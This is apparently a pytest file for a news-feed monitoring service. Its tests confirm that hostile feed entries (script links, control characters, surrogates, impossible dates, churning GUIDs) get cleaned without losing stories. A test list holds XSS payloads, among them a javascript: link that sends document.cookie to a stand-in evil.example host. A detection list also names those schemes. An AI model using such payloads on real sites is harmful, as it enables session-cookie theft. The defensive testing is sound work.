"""Hostile entries: links that are not http(s), control characters, NUL and lone surrogates,
impossible dates, GUIDs that change or repeat. The story stays; the feed is never lost."""

from __future__ import annotations

import email
import json
import re
import shutil
from datetime import UTC, datetime, timedelta
from email import policy
from email.utils import format_datetime
from xml.sax.saxutils import escape, quoteattr

import httpx
import pytest
from lxml import etree
from sqlalchemy import create_engine, func, insert, select, text

from monitor.config.watchlists import load_watchlists
from monitor.dedup.canonical import canonical_url
from monitor.dedup.recent import remember
from monitor.matching import Matcher
from monitor.pipeline.prepare import prepare
from monitor.pipeline.store import store_feeds
from monitor.service.daemon import Daemon
from monitor.service.runtime import load_runtime
from monitor.sources.entry import make_entry
from monitor.sources.feed.parser import parse_feed
from monitor.web import HttpServer, create_app
from notifiers import Channel, Recipient
from notifiers.content import build_alert, build_digest
from notifiers.messages import Renderer
from storage import Delivery, Feed, Hit, Story, StorySource, connect
from storage.migrate import alembic_config
from tests.support.daemon import daemon_config
from tests.support.helpers import WATCHLISTS, run_cli, write_config
from tests.support.pgdb import any_url, pg_url  # noqa: F401 - fixtures
from tests.support.servers import free_port

BASE = "https://news.example/feeds/rss.xml"
SITE = "https://site.example/"
HOSTILE_LINKS = ["javascript:fetch('//evil.example/'+document.cookie)", " JaVaScRiPt:alert(1)",
                 "java\tscript:alert(2)", "vbscript:msgbox(1)",
                 "data:text/html,<script>alert(3)</script>", "\x01javascript:alert(4)"]
# Every C0 control but tab, LF and CR; DEL; every C1; bidi embeddings, overrides, isolates.
CONTROLS = ([chr(c) for c in range(32) if chr(c) not in "\t\n\r"]
            + [chr(c) for c in range(127, 160)]
            + [chr(c) for c in range(0x202A, 0x202F)] + [chr(c) for c in range(0x2066, 0x206A)])
UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069"
                    "\ud800-\udfff\ufffe\uffff]")
OUTLETS = ["Houston", "Ohio", "Texas", "Maine", "Utah", "Iowa", "Idaho", "Nevada"]


def _now() -> datetime:
    return datetime.now(UTC)


def _rss(items: list[dict], channel_link: str = SITE) -> bytes:
    """RSS 2.0; each item: guid, title, link (raw, XML-escaped here), days ago (default 0)."""
    body = "".join(
        f"<item><title>{escape(i['title'])}</title><link>{escape(i['link'])}</link>"
        f"<guid isPermaLink=\"false\">{escape(i['guid'])}</guid>"
        f"<pubDate>{format_datetime(_now() - timedelta(days=i.get('ago', 0)))}</pubDate></item>"
        for i in items)
    return (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
            f"<title>Hostile News</title><link>{escape(channel_link)}</link>{body}"
            "</channel></rss>").encode()


def _atom(items: list[dict]) -> bytes:
    body = "".join(
        f"<entry><id>{escape(i['guid'])}</id><title>{escape(i['title'])}</title>"
        f"<link href={quoteattr(i['link'])}/><updated>2026-11-28T10:00:00Z</updated></entry>"
        for i in items)
    return (f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>'
            f'<link href="{SITE}"/>{body}</feed>').encode()


def _hostile_items() -> list[dict]:
    items = [{"guid": f"h{n}", "title": f"ICE agents detain workers in {OUTLETS[n]}",
              "link": link} for n, link in enumerate(HOSTILE_LINKS)]
    return items + [{"guid": "ok", "title": "ICE agents detain workers in Nevada",
                     "link": "https://site.example/ok"}]


def _poll(config) -> dict:
    result = run_cli("poll-once", "--json", "--config", str(config))
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.strip().splitlines()[-1])


# --- links -----------------------------------------------------------------------------------

@pytest.mark.parametrize("fast", [True, False])
@pytest.mark.parametrize("document", [_rss, _atom])
def test_only_http_links_are_kept_by_both_parsers(document, fast):
    body = document(_hostile_items())
    parsed = parse_feed(body, BASE, fast=fast)
    assert parsed.fast == (fast and "\t" not in body.decode() and "\x01" not in body.decode())
    assert len(parsed.entries) == len(HOSTILE_LINKS) + 1
    *hostile, ok = parsed.entries
    for entry, raw in zip(hostile, HOSTILE_LINKS, strict=True):
        if entry.link is None:
            assert (entry.site, canonical_url(entry.link)) == (SITE, None)
        else:  # Atom's attribute keeps the tab: a relative link on the feed's own host
            assert "\t" in raw and entry.link.startswith("https://news.example/feeds/java")
    assert sum(e.link is None for e in hostile) >= len(HOSTILE_LINKS) - 1
    assert (ok.link, ok.site) == ("https://site.example/ok", None)
    slow = parse_feed(body, BASE, fast=False)
    assert [(e.key, e.link, e.site) for e in slow.entries] == \
        [(e.key, e.link, e.site) for e in parsed.entries]


def test_a_hostile_site_link_is_not_a_fallback_and_json_feeds_follow_the_same_rule():
    parsed = parse_feed(_rss(_hostile_items()[:1], channel_link="javascript:alert(5)"), BASE)
    assert (parsed.entries[0].link, parsed.entries[0].site) == (None, None)
    doc = {"version": "https://jsonfeed.org/version/1.1", "title": "J", "home_page_url": SITE,
           "items": [{"id": str(n), "url": link, "title": f"Story {n}"}
                     for n, link in enumerate(HOSTILE_LINKS + ["/fine"])]}
    entries = parse_feed(json.dumps(doc).encode(), "https://j.example/feed.json").entries
    assert [(e.link, e.site) for e in entries] == \
        [(None, SITE)] * len(HOSTILE_LINKS) + [("https://j.example/fine", None)]


def _app(tmp_path, storage_url: str) -> tuple[Daemon, HttpServer, str]:
    """The page, API and Atom feeds served in-process over a database that was polled."""
    watchlists = tmp_path / "watchlists"
    shutil.copytree(WATCHLISTS, watchlists)
    web = tmp_path / "web"
    web.mkdir()
    config = daemon_config(web, [("http://127.0.0.1:9/feed.xml", "1h")], 8080, storage_url,
                           watchlists)
    daemon = Daemon(load_runtime(config))
    port = free_port()
    server = HttpServer(create_app(daemon), "127.0.0.1", port)
    server.start()
    return daemon, server, f"http://127.0.0.1:{port}"


def _no_script_link(text_: str) -> None:
    low = text_.lower()
    for needle in ("javascript:", "vbscript:", "data:text", "java\tscript", "evil.example"):
        assert needle not in low


def test_hostile_links_never_reach_email_webhook_page_atom_or_hits(tmp_path, feed_server, smtp,
                                                                   webhook):
    url = feed_server.add("/hostile.xml", _rss(_hostile_items()))
    storage_url = f"sqlite:///{tmp_path / 'monitor.db'}"
    config = write_config(tmp_path, [url], [{"name": "desk", "notify": [smtp.url()]},
                                            {"name": "hooks", "notify": [webhook.url]}],
                          storage_url=storage_url)
    summary = _poll(config)
    assert summary["new_stories"] == len(HOSTILE_LINKS) + 1
    assert summary["notifications_sent"] == 2 * (len(HOSTILE_LINKS) + 1)
    for message in webhook.received:
        _no_script_link(message["title"] + message["message"])
        assert "https://site.example/" in message["message"]

    for _from, _to, raw in smtp.messages:
        msg = email.message_from_bytes(raw, policy=policy.default)
        parts = [p.get_content() for p in msg.walk() if p.get_content_maintype() == "text"]
        for part in parts:
            _no_script_link(part)
        assert all("https://site.example/" in part for part in parts), parts

    hits = run_cli("hits", "--format", "json", "--config", str(config))
    rows = json.loads(hits.stdout)
    assert len(rows) == len(HOSTILE_LINKS) + 1
    assert {r["link"] for r in rows} == {SITE, "https://site.example/ok"}

    daemon, server, base = _app(tmp_path, storage_url)
    try:
        page = httpx.get(base + "/", timeout=10)
        assert page.status_code == 200
        _no_script_link(page.text)
        assert page.text.count("https://site.example/") >= len(HOSTILE_LINKS)
        atom = httpx.get(base + "/watchlists/ICE/hits.atom", timeout=10)
        assert atom.status_code == 200
        _no_script_link(atom.text)
        hrefs = etree.fromstring(atom.content).xpath(
            "//a:entry/a:link/@href", namespaces={"a": "http://www.w3.org/2005/Atom"})
        assert len(hrefs) == len(HOSTILE_LINKS) + 1
        assert all(h.startswith("https://site.example/") for h in hrefs)
    finally:
        server.stop()
        daemon.rt.close()


def _old_rows_with_script_links(storage_url: str) -> None:
    """A story and a second outlet's source stored before links were checked at parse time."""
    db = connect(storage_url)
    with db.session() as s:
        feed, other = Feed(url="https://n.example/rss", name="Ledger"), \
            Feed(url="https://o.example/rss", name="Courier")
        s.add_all([feed, other])
        s.flush()
        story = Story(title="ICE agents detain dozens", summary="Raids.", feed_id=feed.id,
                      link=HOSTILE_LINKS[0])
        s.add(story)
        s.flush()
        s.add_all([StorySource(story_id=story.id, feed_id=feed.id, entry_key="a",
                               link=HOSTILE_LINKS[0]),
                   StorySource(story_id=story.id, feed_id=other.id, entry_key="b",
                               link=HOSTILE_LINKS[1]),
                   Hit(story_id=story.id, watchlist="ICE", entity="ICE", alias="ICE agents",
                       matched="ICE agents", context="ICE agents detain dozens"),
                   Delivery(story_id=story.id, subscriber="desk", channel="m", state="sent")])
    db.dispose()


def test_stored_script_links_reach_no_output(tmp_path):
    storage_url = f"sqlite:///{tmp_path / 'monitor.db'}"
    _old_rows_with_script_links(storage_url)
    db = connect(storage_url)
    desk = Recipient("desk", (Channel("m", "mailto://u:p@mail.example"),), mode="digest",
                     schedule="0 8 * * *")
    renderer = Renderer()
    with db.session() as s:
        [story] = s.scalars(select(Story))
        alert, digest = build_alert(story, story.hits, desk), \
            build_digest(s, [story], desk, "digest", _now())
        for kind in ("email", "text", "slack", "markdown"):
            for message in (renderer.render(alert, kind), renderer.render_digest(digest, kind)):
                _no_script_link(message.body)
                assert "ICE agents detain dozens" in message.body
    db.dispose()
    daemon, server, base = _app(tmp_path, storage_url)
    try:
        page = httpx.get(base + "/", timeout=10)
        api = httpx.get(base + "/api/hits", timeout=10)
        atom = httpx.get(base + "/watchlists/ICE/hits.atom", timeout=10)
    finally:
        server.stop()
        daemon.rt.close()
    assert "ICE agents detain dozens" in page.text and "Courier" in page.text
    config = tmp_path / "web" / "config.toml"
    table, rows, ledger = (run_cli(*command, "--config", str(config)).stdout for command in (
        ("hits", "--format", "table"), ("hits", "--format", "json"),
        ("deliveries", "--format", "json")))
    for output in (page.text, api.text, atom.text, table, rows, ledger):
        _no_script_link(output)
    assert json.loads(ledger)[0]["title"] == "ICE agents detain dozens"
    [row] = json.loads(rows)
    assert row["link"] is None and [src["link"] for src in row["sources"]] == [None, None]
    assert api.json()["hits"][0]["link"] is None


# --- control characters, NUL, surrogates, impossible dates ----------------------------------

def _json_feed(items: list[dict]) -> bytes:
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J\x1b[31m",
                       "items": items}).encode()


def test_every_control_character_is_stripped_and_the_story_kept():
    title = "ICE " + "".join(CONTROLS) + "agents \ud800detain\ufffe dozens\uffff"
    # JSON carries anything; in XML the raw characters send the document to feedparser's
    # forgiving parser, and numeric references reach the text through unescaping.
    json_body = _json_feed([{"id": "g\x00\x1b1", "url": "https://j.example/\x00a\u202e",
                             "title": title, "summary": "<p>Lead\x07 \u202etext</p>",
                             "content_html": "Body\x1b[0m"}])
    # (C1 characters in XML are read as cp1252 by feedparser's rule, so they are left out.)
    xml_controls = [c for c in CONTROLS if not 0x80 <= ord(c) < 0xA0]
    refs = "".join(f"&#{ord(c)};" for c in xml_controls if ord(c) > 8)
    xml_body = _rss([{"guid": "x1", "title": "ICE PLACEHOLDER agents detain dozens",
                      "link": "https://site.example/a"}]
                    ).replace(b"PLACEHOLDER", "".join(xml_controls).encode() + refs.encode())
    for body in (json_body, xml_body):
        parsed = parse_feed(body, "https://j.example/feed.json")
        assert parsed.error is None and len(parsed.entries) == 1
        entry = parsed.entries[0]
        assert entry.title == "ICE agents detain dozens"
        for value in (entry.key, entry.guid, entry.link, entry.summary, entry.content,
                      parsed.title):
            assert not UNSAFE.search(value or ""), repr(value)
    entry = parse_feed(json_body, "https://j.example/feed.json").entries[0]
    assert (entry.guid, entry.link) == ("g1", "https://j.example/a")
    assert (entry.summary, entry.content) == ("Lead text", "Body[0m")


def test_impossible_dates_and_bad_items_lose_nothing_else():
    body = _json_feed([
        {"id": "1", "title": "Before year one", "date_published": "0001-01-01T00:00:00+01:00"},
        {"id": "2", "title": "After 9999", "date_published": "9999-12-31T23:59:59-05:00"},
        {"id": "3", "title": "Fine", "date_published": "2026-11-28T10:00:00Z"}])
    parsed = parse_feed(body, "https://j.example/feed.json")
    assert [(e.title, e.published) for e in parsed.entries] == [
        ("Before year one", None), ("After 9999", None),
        ("Fine", datetime(2026, 11, 28, 10, tzinfo=UTC))]


def test_bad_entries_never_lose_their_feed(tmp_path, feed_server, webhook, any_url):  # noqa: F811
    fresh = _now().isoformat()
    items = [
        {"id": "nul", "url": "https://j.example/nul", "date_published": fresh,
         "title": "ICE agents detain\x00 nine in Houston"},
        {"id": "sur", "url": "https://j.example/sur", "date_published": fresh,
         "title": "ICE agents raid \ud800 a farm in Ohio"},
        {"id": "old", "url": "https://j.example/old", "title": "ICE opens a center in Texas",
         "date_published": "0001-01-01T00:00:00+01:00"},
        {"id": "far", "url": "https://j.example/far", "title": "ICE contract review in Maine",
         "date_published": "9999-12-31T23:59:59-05:00"},
        {"id": "esc", "url": "https://j.example/esc", "date_published": fresh,
         "title": "ICE \x1b[2Jdeportation flights from Utah \u202egrow"},
        {"id": "good", "url": "https://j.example/good", "date_published": fresh,
         "title": "ICE agents arrest a pastor in Iowa"},
    ]
    url = feed_server.add("/bad.json", _json_feed(items), content_type="application/feed+json")
    config = write_config(tmp_path, [url], [{"name": "hooks", "notify": [webhook.url]}],
                          storage_url=any_url)
    summary = _poll(config)
    assert summary["feeds_failed"] == 0 and summary["new_stories"] == len(items)
    assert summary["notifications_sent"] == len(items) and len(webhook.received) == len(items)
    for message in webhook.received:
        assert not UNSAFE.search(message["title"] + message["message"])
    titles = sorted(r["title"] for r in json.loads(
        run_cli("hits", "--format", "json", "--config", str(config)).stdout))
    assert "ICE agents detain nine in Houston" in titles
    assert "ICE agents raid a farm in Ohio" in titles
    assert "ICE [2Jdeportation flights from Utah grow" in titles
    assert _poll(config)["new_stories"] == 0


@pytest.fixture(scope="module")
def matcher():
    return Matcher(load_watchlists(WATCHLISTS))


def test_an_entry_that_cannot_be_stored_is_skipped_and_counted(any_url, matcher, caplog):  # noqa: F811
    db = connect(any_url)
    recipients = [Recipient("desk", (Channel("c1", "json://127.0.0.1:9/x"),))]
    entries = [make_entry("1", "https://n.example/1", "ICE agents detain nine", "", "", None),
               make_entry("2", "https://n.example/2", "ICE agents \x00\ud800 raid", "", "", None),
               make_entry("3", "https://n.example/3", "ICE opens a new center", "", "", None)]
    try:
        with db.session() as s:
            feed = Feed(url="https://n.example/rss", name="N")
            s.add(feed)
            s.flush()
            report = store_feeds(s, [(feed, prepare(entries, matcher))], recipients)
        assert (report.skipped, report.new_stories, report.deliveries) == (1, 2, 2)
        assert "entry '2' skipped, it cannot be stored" in caplog.text
        with db.session() as s:
            assert sorted(s.scalars(select(Story.title))) == [
                "ICE agents detain nine", "ICE opens a new center"]
            assert s.scalar(select(func.count()).select_from(Delivery)) == 2
            assert s.scalar(select(Feed.entries_seen)) == 2
    finally:
        db.dispose()


def test_atom_feed_serves_stored_rows_holding_control_characters(tmp_path):
    storage_url = f"sqlite:///{tmp_path / 'monitor.db'}"
    db = connect(storage_url)
    dirty = "ICE " + "".join(CONTROLS) + "agents detain dozens"
    with db.session() as s:  # rows stored before the parser cleaned text
        feed = Feed(url="https://n.example/rss", name="Feed \x1b\x07")
        s.add(feed)
        s.flush()
        story = Story(title=dirty, summary=dirty, link="https://n.example/1", feed_id=feed.id)
        s.add(story)
        s.flush()
        s.add(Hit(story_id=story.id, watchlist="ICE", entity="ICE", alias="ICE agents",
                  matched="ICE \x00agents", context=dirty))
    db.dispose()
    daemon, server, base = _app(tmp_path, storage_url)
    try:
        atom = httpx.get(base + "/watchlists/ICE/hits.atom", timeout=10)
    finally:
        server.stop()
        daemon.rt.close()
    assert atom.status_code == 200
    root = etree.fromstring(atom.content)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert root.xpath("//a:entry/a:title/text()", namespaces=ns) == ["ICE agents detain dozens"]
    assert not UNSAFE.search(atom.text)


# --- GUIDs ---------------------------------------------------------------------------------

def _count(storage_url: str, table) -> int:
    engine = create_engine(storage_url)
    try:
        with engine.connect() as conn:
            return conn.execute(select(func.count()).select_from(table)).scalar_one()
    finally:
        engine.dispose()


def test_a_feed_changing_its_guids_every_poll_adds_no_sources(tmp_path, feed_server):
    storage_url = f"sqlite:///{tmp_path / 'monitor.db'}"
    stories = [(f"https://site.example/{n}", f"ICE agents detain workers in {OUTLETS[n]}")
               for n in range(5)]

    def serve(poll: int) -> str:
        return feed_server.add("/churn.xml", _rss([
            {"guid": f"poll{poll}-{n}", "title": title, "link": link}
            for n, (link, title) in enumerate(stories)]))

    config = write_config(tmp_path, [serve(0)], storage_url=storage_url)
    assert _poll(config)["new_stories"] == 5
    for poll in (1, 2, 3):
        serve(poll)
        assert _poll(config)["new_stories"] == 0
    assert _count(storage_url, StorySource) == 5
    assert _count(storage_url, Story) == 5


def test_distinct_items_sharing_one_guid_are_all_kept_and_counted(tmp_path, feed_server,
                                                                   webhook):
    items = [{"guid": "same", "title": f"ICE agents detain workers in {OUTLETS[n]}",
              "link": f"https://site.example/{n}"} for n in range(3)]
    repeated = items + [dict(items[0])]  # and the first one listed twice: one story
    url = feed_server.add("/shared.xml", _rss(repeated))
    config = write_config(tmp_path, [url], [{"name": "hooks", "notify": [webhook.url]}])
    result = run_cli("poll-once", "--json", "--log-level", "INFO", "--config", str(config))
    assert result.returncode == 0, result.stderr
    summary = json.loads(result.stdout.strip().splitlines()[-1])
    assert summary["new_stories"] == 3 and summary["entries_sharing_guid"] == 4
    assert len(webhook.received) == 3
    assert "4 distinct entries share a GUID" in result.stderr
    again = _poll(config)
    assert again["new_stories"] == 0 and len(webhook.received) == 3


# --- backlog on a first poll ------------------------------------------------------------------

def test_first_poll_stores_the_backlog_without_alerting_it(tmp_path, feed_server, webhook):
    old = {"guid": "2009", "title": "ICE agents detain workers in Houston",
           "link": "https://site.example/2009", "ago": (_now() - datetime(2009, 5, 1,
                                                                           tzinfo=UTC)).days}
    recent = {"guid": "new", "title": "ICE agents detain workers in Ohio",
              "link": "https://site.example/new", "ago": 1}
    url = feed_server.add("/blog.xml", _rss([old, recent]))
    config = write_config(tmp_path, [url], [{"name": "hooks", "notify": [webhook.url]}],
                          backlog=None)
    first = _poll(config)
    assert first["new_stories"] == 2 and first["hits"] == 2
    assert first["backlog_not_alerted"] == 1
    assert [m["title"] for m in webhook.received] == ["[ICE] ICE agents detain workers in Ohio"]
    stored = json.loads(run_cli("hits", "--format", "json", "--config", str(config)).stdout)
    assert len(stored) == 2  # the old story is history: listed, searchable, charted

    older = {"guid": "2008", "title": "ICE agents detain workers in Texas",
             "link": "https://site.example/2008", "ago": 6000}
    feed_server.add("/blog.xml", _rss([old, recent, older]))
    second = _poll(config)
    assert second["new_stories"] == 1 and second["backlog_not_alerted"] == 0
    assert len(webhook.received) == 2  # after the first poll, a new entry is news


def test_backlog_off_alerts_a_first_poll_whole_and_bad_values_are_reported(tmp_path,
                                                                             feed_server,
                                                                             webhook):
    old = {"guid": "2009", "title": "ICE agents detain workers in Houston",
           "link": "https://site.example/2009", "ago": 6000}
    url = feed_server.add("/blog.xml", _rss([old]))
    config = write_config(tmp_path, [url], [{"name": "hooks", "notify": [webhook.url]}],
                          backlog="off")
    assert _poll(config)["notifications_sent"] == 1
    bad = write_config(tmp_path, [url], backlog="soon")
    checked = run_cli("check", "--config", str(bad))
    assert checked.returncode == 2
    assert "backlog: expected a duration" in checked.stderr and 'or "off"' in checked.stderr


# --- stored data from before: migration 0004 -------------------------------------------------

def test_migration_clears_unsafe_links_and_text_and_merges_duplicate_sources(any_url):  # noqa: F811
    from alembic import command

    engine = create_engine(any_url)
    with engine.begin() as conn:
        command.upgrade(alembic_config(conn), "0003")
    now = _now()
    with engine.begin() as conn:
        conn.execute(insert(Feed.__table__), [{"id": 1, "url": "https://n.example/rss",
                                               "name": "N\x1b", "interval_s": 60, "state": "ok",
                                               "error_count": 0, "entries_seen": 0,
                                               "next_poll_at": now, "created_at": now}])
        ok = len(HOSTILE_LINKS) + 1
        conn.execute(insert(Story.__table__), [
            {"id": n, "link": link, "title": f"ICE \u202e{n}\x07", "summary": "s\x1b",
             "first_seen_at": now, "feed_id": 1,
             "canonical_url": "https://n.example/ok" if n == ok else None}
            for n, link in enumerate(HOSTILE_LINKS + ["https://n.example/ok", None], start=1)])
        # story ok: its first source, two re-issues of its link under new GUIDs, a near-
        # duplicate entry of the same feed, and a hostile link; story 1: one source
        links = ["https://n.example/ok", "https://n.example/ok", "https://n.example/ok",
                 "https://n.example/other", "vbscript:x"]
        conn.execute(insert(StorySource.__table__), [
            {"id": n, "story_id": ok, "feed_id": 1, "entry_key": f"k{n}", "link": link,
             "seen_at": now} for n, link in enumerate(links, start=1)]
            + [{"id": 9, "story_id": 1, "feed_id": 1, "entry_key": "k9",
                "link": "javascript:x", "seen_at": now}])
        conn.execute(insert(Hit.__table__), [{"story_id": 1, "watchlist": "ICE", "entity": "ICE",
                                              "alias": "ICE", "matched": "ICE\x07",
                                              "context": "ICE \u202eraid", "field": "title",
                                              "score": 1.0, "rule": "exact",
                                              "created_at": now}])
        command.upgrade(alembic_config(conn), "head")
    with engine.connect() as conn:
        links = dict(conn.execute(text("SELECT id, link FROM stories")).all())
        assert links == {**{n: None for n in range(1, len(HOSTILE_LINKS) + 1)},
                         len(HOSTILE_LINKS) + 1: "https://n.example/ok",
                         len(HOSTILE_LINKS) + 2: None}
        assert conn.execute(text("SELECT title, summary FROM stories WHERE id = 2")).one() == \
            ("ICE 2", "s")
        assert conn.execute(text("SELECT id, link FROM story_sources ORDER BY id")).all() == [
            (1, "https://n.example/ok"), (4, "https://n.example/other"), (5, None), (9, None)]
        assert conn.execute(text("SELECT matched, context FROM hits")).one() == \
            ("ICE", "ICE raid")
        assert conn.execute(text("SELECT name FROM feeds")).scalar_one() == "N"
    engine.dispose()


def test_a_near_duplicate_from_the_same_feed_keeps_its_source_row(tmp_path, matcher):
    """Only an entry found by its link adds no second source: a near-duplicate's key is what
    keeps it from becoming a new story (and an alert) once the near-duplicate window passed."""
    from monitor.dedup.neardup import NearDupIndex

    db = connect(f"sqlite:///{tmp_path / 'db.sqlite'}")
    title = "ICE agents detain 40 people in early-morning raids across Houston"
    summary = "Immigration agents detained forty people in raids across Houston on Tuesday."
    first = make_entry("g1", "https://n.example/raid", title, summary, "", None)
    copy = make_entry("g2", "https://n.example/raid-update", title + " (updated)", summary, "",
                      None)
    churned = make_entry("g3", "https://n.example/raid?utm_source=x", title, summary, "", None)
    index = NearDupIndex()
    try:
        with db.session() as s:
            feed = Feed(url="https://n.example/rss", name="N")
            s.add(feed)
            s.flush()
            remember(index, store_feeds(s, [(feed, prepare([first], matcher))], []).fingerprints)
        with db.session() as s:
            feed = s.get(Feed, feed.id)
            report = store_feeds(s, [(feed, prepare([copy, churned], matcher))], [], index)
        assert (report.new_stories, report.near_duplicates, report.new_sources) == (0, 1, 1)
        with db.session() as s:
            assert sorted(s.scalars(select(StorySource.entry_key))) == ["g1", "g2"]
    finally:
        db.dispose()
